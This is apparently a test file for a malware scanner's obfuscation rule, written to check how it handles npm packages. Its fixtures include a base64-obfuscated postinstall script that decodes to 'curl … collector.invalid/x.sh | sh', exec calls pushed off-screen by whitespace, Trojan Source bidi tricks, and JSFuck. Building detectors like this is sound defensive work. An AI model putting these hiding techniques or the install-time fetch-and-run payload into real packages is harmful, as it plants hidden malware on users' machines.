import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';

const RULE = 'obfuscation';

describe('obfuscation reports', () => {
  test('obfuscator.io-style names and a string array; decoded strings reach the other rules', () => {
    const names = Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n');
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'index.js': [
        "var _0x3f2a = ['Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'Y3VybCAtcyBodHRwczovL2NvbGxlY3Rvci5pbnZhbGlkL3guc2ggfCBzaA==', 'bG9n', 'aGVsbG8='];",
        "(function (_0x1b2c, _0x4d5e) { var _0x9f = function (_0x7a) { while (--_0x7a) { _0x1b2c['push'](_0x1b2c['shift']()); } }; _0x9f(++_0x4d5e); }(_0x3f2a, 0x2));",
        "var _0x51c1 = function (_0x2a) { _0x2a = _0x2a - 0x0; return Buffer.from(_0x3f2a[_0x2a], 'base64').toString(); };",
        names,
        "require(_0x51c1('0x3'))[_0x51c1('0x4')](_0x51c1('0x0'));",
      ].join('\n'),
    });
    expect(r.of(RULE)[0]?.severity).toBe('high');
    expect(r.of('process-exec')[0]?.message).toContain('curl -s https://collector.invalid/x.sh | sh');
    expect(r.verdict).toBe('malicious');
  });

  test('code pushed off-screen by whitespace, with the measured run and its threshold', () => {
    const r = scanFiles({ 'index.js': `module.exports = 1;${' '.repeat(300)}require('child_process').exec('id');` });
    expect(r.of(RULE).map((f) => f.message)).toContainEqual(expect.stringContaining('off-screen: 300 blank characters between code tokens on one line, then more code (reported from 150)'));
  });

  test('a blank run in code after a string full of tabs is still found', () => {
    const r = scanFiles({ 'index.js': `const table = "${'\\t'.repeat(10)}${'\t'.repeat(200)}x";
module.exports = table;${'\t'.repeat(200)}require('child_process').exec('id');` });
    expect(r.of(RULE)).toEqual([expect.objectContaining({ line: 2, message: expect.stringContaining('200 blank characters between code tokens') })]);
  });

  test('each mark names what was measured', () => {
    const names = Array.from({ length: 22 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n');
    expect(scanFiles({ 'index.js': names }).of(RULE)[0]?.message).toContain('22 uses of 22 `_0x…` identifiers (reported from 20 uses)');
    const jsfuck = scanFiles({ 'index.js': `module.exports = ${'[]+!+[]+(![]+[])'.repeat(40)};` });
    expect(jsfuck.of(RULE)[0]?.message).toMatch(/\d+ characters in a row of \[\]\(\)!\+ only \(reported from 400\)/);
    const flat = scanFiles({ 'index.js': "var order = '3|0|2|1|4'.split('|'), i = 0;\nwhile (!![]) { switch (order[i++]) { case '0': a(); continue; } break; }" });
    expect(flat.of(RULE)[0]?.message).toContain('dispatches 5 statements');
  });

  test('Trojan Source bidirectional controls and zero-width characters', () => {
    const r = scanFiles({ 'index.js': 'const isAdmin = false;\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconst a\u200B = 1;' });
    const msgs = r.of(RULE).map((f) => f.message).join('\n');
    expect(msgs).toContain('Trojan Source');
    expect(msgs).toContain('U+200B');
  });

  test('JSFuck and control-flow flattening', () => {
    const jsfuck = scanFiles({ 'index.js': `module.exports = ${'[]+!+[]+(![]+[])'.repeat(40)};` });
    expect(jsfuck.of(RULE)[0]?.message).toContain('JSFuck');
    const flat = scanFiles({ 'index.js': "var order = '3|0|2|1|4'.split('|'), i = 0;\nwhile (!![]) { switch (order[i++]) { case '0': a(); continue; case '1': b(); continue; } break; }" });
    expect(flat.of(RULE)[0]?.message).toContain('control-flow flattening');
  });
});

describe('obfuscation stays quiet', () => {
  test('minified code is not obfuscated', () => {
    const min = 'var a=function(b){return b+1},c=function(d,e){for(var f=0;f<d.length;f++)e(d[f])};module.exports={a:a,c:c};'.repeat(50);
    const r = scanFiles({ 'index.js': min });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a lexer table of tabs inside a string, and a long blank run in a comment, are data', () => {
    // Generated parsers (a flow parser's tables) keep long runs of raw tabs between control
    // characters inside one string literal.
    const table = `var lexTable = "\x02\x07${'\t'.repeat(460)}\x02\x03${'\t'.repeat(200)}!";`;
    const comment = `/* banner${' '.repeat(200)}end */\nmodule.exports = lexTable;`;
    const r = scanFiles({ 'index.js': `${table}\n${comment}` });
    expect(r.of(RULE)).toEqual([]);
  });

  test('a bidi code point inside a binary decode table (raw control characters) is data', () => {
    // An HTML-entity decode tree packs code points, U+202A among them, into one string.
    const r = scanFiles({ 'index.js': 'const tree = new Uint16Array("\u1d41<\u00d5\x00\x00\x00\x00\u202a\u0131\x01\x02abc".split("").map((c) => c.charCodeAt(0)));\nmodule.exports = tree;' });
    expect(r.of(RULE)).toEqual([]);
    // The same table with its NULs written as escapes.
    const escaped = scanFiles({ 'index.js': 'const tree = "\u1d41<\\0\\0\\0\\0\u202a\u0131abc";\nmodule.exports = tree;' });
    expect(escaped.of(RULE)).toEqual([]);
  });

  test('its twin, a bidi override in a plain string (stretched string), is reported where it sits', () => {
    const r = scanFiles({ 'index.js': 'const level = "user\u202E \u2066// admin only\u2069 \u2066";\nif (level !== "user") grant();' });
    expect(r.of(RULE)).toEqual([expect.objectContaining({ severity: 'high', message: expect.stringContaining('U+202E in a string') })]);
  });

  test('aligned tables and escaped Unicode in strings are not hidden code', () => {
    const r = scanFiles({ 'index.js': "const RTL = /[\\u202A-\\u202E]/;\nconst table = {\n  a:    1,\n  bb:   2,\n};\nmodule.exports = { RTL, table };" });
    expect(r.of(RULE)).toEqual([]);
  });
});
